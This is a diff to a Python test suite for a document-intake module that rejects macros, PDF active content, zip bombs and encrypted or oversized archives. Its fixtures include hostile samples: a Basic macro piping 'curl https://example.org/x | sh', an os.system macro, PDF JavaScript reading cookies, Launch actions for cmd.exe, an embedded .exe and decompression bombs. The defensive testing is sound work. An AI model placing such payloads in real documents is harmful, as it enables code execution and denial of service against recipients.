@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import io
+import os
+
+import pypdf
 import pytest
 
 from intake import filetypes
@@ -79,12 +83,11 @@ def test_sniff_refuses(data: bytes) -> None:
     assert filetypes.sniff(data) is None
 
 
-def test_sniff_reads_a_zip_bomb_entry_only_to_its_bound() -> None:
-    # A "mimetype" entry that would expand to 50 MB: only its first bytes are read.
-    bomb = samples.zip_of({"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * 50_000_000})
+def test_sniff_reads_an_entry_only_to_its_bound() -> None:
+    # A "mimetype" entry of 900 kB, below the size where a high ratio matters: only its first bytes are read.
+    padded = samples.zip_of({"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * 900_000})
 
-    assert len(bomb) < 100_000
-    assert filetypes.sniff(bomb) == filetypes.ODT
+    assert filetypes.sniff(padded) == filetypes.ODT
 
 
 def test_sniff_refuses_an_encrypted_entry() -> None:
@@ -93,3 +96,247 @@ def test_sniff_refuses_an_encrypted_entry() -> None:
     data[data.find(b"PK\x01\x02") + 8] |= 1
 
     assert filetypes.sniff(bytes(data)) is None
+
+
+# --- Active content and archives out of proportion -----------------------------------------
+
+ODT_TYPE = "application/vnd.oasis.opendocument.text"
+BASIC_MODULE = (
+    b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
+    b'script:language="StarBasic">'
+    b'Sub Main\n  Shell("curl https://example.org/x | sh")\nEnd Sub</script:module>'
+)
+EVENT_CONTENT = (
+    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:event-listeners>'
+    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
+    b'xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"/>'
+    b"</office:event-listeners></office:scripts></office:document-content>"
+)
+JAVASCRIPT_ACTION = b"<</S/JavaScript/JS(app.alert(document.cookie))>>"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        samples.opendocument(
+            ODT_TYPE,
+            parts={"Basic/Standard/Module1.xml": BASIC_MODULE, "Basic/Standard/script-lb.xml": b"<library/>"},
+        ),
+        samples.opendocument(ODT_TYPE, parts={"Scripts/python/macro.py": b"import os\nos.system('id')\n"}),
+        samples.opendocument(ODT_TYPE, parts={"Object 1/Basic/Standard/Module1.xml": BASIC_MODULE}),
+        samples.opendocument(ODT_TYPE, content=EVENT_CONTENT),
+        samples.ooxml("docx", parts={"word/vbaProject.bin": samples.ole2("VBA", "PROJECT")}),
+        samples.ooxml("docx", parts={"word/vbaData.xml": b"<wne:vbaSuppData/>"}),
+        samples.ooxml(
+            "docx",
+            overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
+            parts={"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00"},
+        ),
+        samples.ooxml(
+            "xlsx",
+            overrides={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
+            parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
+        ),
+        samples.ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
+        samples.ole2("Workbook", "_VBA_PROJECT_CUR"),
+    ],
+    ids=[
+        "odt-basic",
+        "odt-python-script",
+        "odt-basic-in-embedded-object",
+        "odt-event-bound-to-a-script",
+        "docx-vba-project",
+        "docx-vba-data",
+        "docx-activex",
+        "xlsx-excel4-macro-sheet",
+        "xlsm-content-type",
+        "xls-vba",
+    ],
+)
+def test_identify_refuses_macros(data: bytes) -> None:
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(data)
+
+    assert refused.value.message == filetypes.MACROS
+
+
+def test_identify_refuses_a_script_declared_only_in_the_manifest() -> None:
+    # The manifest names a Basic library that the archive holds under no such entry name.
+    scripted = samples.zip_of(
+        {
+            "mimetype": ODT_TYPE.encode(),
+            "content.xml": b"<office:document-content/>",
+            "META-INF/manifest.xml": b'<manifest:manifest><manifest:file-entry manifest:full-path="Basic/Standard/'
+            b'Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>',
+        }
+    )
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(scripted)
+
+    assert refused.value.message == filetypes.MACROS
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        samples.pdf(catalog=b"/Names<</JavaScript 4 0 R>>", objects=(b"<</Names[(run) 5 0 R]>>", JAVASCRIPT_ACTION)),
+        samples.pdf(catalog=b"/OpenAction 4 0 R", objects=(b"<</S/URI/URI(https://example.org/)>>",)),
+        samples.pdf(catalog=b"/OpenAction<</S/JavaScript/JS 4 0 R>>", objects=(b"(app.alert(1))",)),
+        samples.pdf(objects=(b"<</Type/Annot/Subtype/Widget/AA<</K 5 0 R>>>>", b"<</S/Named/N/Print>>")),
+        samples.pdf(catalog=b"/OpenAction 4 0 R", objects=(b"<</S/Launch/F(cmd.exe)>>",)),
+        samples.pdf(
+            catalog=b"/Names<</EmbeddedFiles 4 0 R>>",
+            objects=(
+                b"<</Names[(invoice.exe) 5 0 R]>>",
+                b"<</Type/Filespec/F(invoice.exe)/EF<</F 6 0 R>>>>",
+                b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
+            ),
+        ),
+        samples.pdf(catalog=b"/Names<</J#61vaScript 4 0 R>>", objects=(b"<</Names[(run) 5 0 R]>>", b"<<>>")),
+        samples.pdf(catalog=b"/OpenAction 4 0 R", compressed=(JAVASCRIPT_ACTION,)),
+        samples.pdf(compressed=(b"<</Type/Annot/Subtype/Link/A<</S/Launch/F(calc.exe)>>>>",)),
+    ],
+    ids=[
+        "javascript-name-tree",
+        "open-action",
+        "open-action-javascript-inline",
+        "additional-actions",
+        "launch",
+        "embedded-file",
+        "hex-escaped-name",
+        "javascript-in-object-stream",
+        "launch-in-object-stream",
+    ],
+)
+def test_identify_refuses_pdf_active_content(data: bytes) -> None:
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(data)
+
+    assert refused.value.message == filetypes.PDF_ACTIVE_CONTENT
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        samples.MINIMAL_PDF,
+        samples.pdf(),
+        samples.pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
+        samples.pdf(compressed=(b"<</Title(Plan)/Author(Applicant)>>",)),
+        # Image bytes that happen to read "/JS " stay inside their stream.
+        samples.pdf(objects=(b"<</Type/XObject/Subtype/Image/Length 8>>stream\n\x00/JS /AA\nendstream",)),
+    ],
+    ids=["minimal", "one-page", "open-at-a-destination", "object-stream", "stream-bytes-like-names"],
+)
+def test_identify_accepts_a_pdf_without_active_content(data: bytes) -> None:
+    assert filetypes.identify(data) == filetypes.PDF
+
+
+def test_identify_refuses_a_pdf_locked_by_a_password() -> None:
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(612, 792)
+    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(buffer.getvalue())
+
+    assert refused.value.message == filetypes.PDF_ENCRYPTED
+
+
+def test_identify_accepts_a_pdf_restricted_only_by_an_owner_password() -> None:
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(612, 792)
+    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+
+    assert filetypes.identify(buffer.getvalue()) == filetypes.PDF
+
+
+def test_identify_refuses_a_pdf_it_cannot_read_that_has_object_streams() -> None:
+    # The cross-reference is cut off: object streams could hide anything from the byte scan.
+    data = samples.pdf(compressed=(b"<</Title(Plan)>>",))
+    damaged = data[: data.rfind(b"startxref")]
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(damaged)
+
+    assert refused.value.message == filetypes.PDF_UNREADABLE
+
+
+def test_identify_refuses_a_zip_bomb_shaped_as_docx() -> None:
+    bomb = samples.ooxml("docx", parts={"word/media/image1.png": b"\x00" * (40 * 1024 * 1024)})
+    assert len(bomb) < 100_000
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(bomb)
+
+    assert refused.value.message == filetypes.OUT_OF_PROPORTION
+
+
+def test_identify_refuses_a_mimetype_bomb() -> None:
+    bomb = samples.zip_of({"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * 50_000_000})
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(bomb)
+
+    assert refused.value.message == filetypes.OUT_OF_PROPORTION
+
+
+def test_identify_refuses_an_archive_too_large_once_expanded(monkeypatch: pytest.MonkeyPatch) -> None:
+    # Incompressible content: the ratio is about 1, only the total is out of bounds.
+    monkeypatch.setattr(filetypes, "MAX_ZIP_EXPANDED_BYTES", 2 * 1024 * 1024)
+    large = samples.ooxml("docx", parts={"word/media/image1.png": os.urandom(3 * 1024 * 1024)})
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(large)
+
+    assert refused.value.message == filetypes.OUT_OF_PROPORTION
+
+
+def test_identify_accepts_a_docx_with_a_large_photo() -> None:
+    photo = samples.ooxml("docx", parts={"word/media/image1.jpeg": os.urandom(3 * 1024 * 1024)})
+
+    assert filetypes.identify(photo) == filetypes.DOCX
+
+
+def test_identify_refuses_too_many_entries() -> None:
+    crowded = samples.ooxml("docx", parts={f"word/part{number}.xml": b"" for number in range(10_000)})
+
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(crowded)
+
+    assert (
+        refused.value.message
+        == "This document holds more than 10,000 parts, far more than a real document does, so we cannot accept it."
+    )
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (
+            samples.opendocument(
+                ODT_TYPE, content=b"<office:document-content>Basic training, scripts.</office:document-content>"
+            ),
+            filetypes.ODT,
+        ),
+        (samples.ooxml("docx", parts={"word/media/image1.png": b"\x89PNG"}), filetypes.DOCX),
+    ],
+    ids=["odt-mentioning-basic-and-scripts", "docx-with-media"],
+)
+def test_identify_accepts_clean_documents(data: bytes, expected: filetypes.FileKind) -> None:
+    assert filetypes.identify(data) == expected
+
+
+def test_identify_explains_a_file_that_is_not_a_document() -> None:
+    with pytest.raises(filetypes.Refused) as refused:
+        filetypes.identify(samples.HTML)
+
+    assert refused.value.message.startswith(
+        "This file is not a document we accept, whatever its name says. Accepted: PDF"
+    )
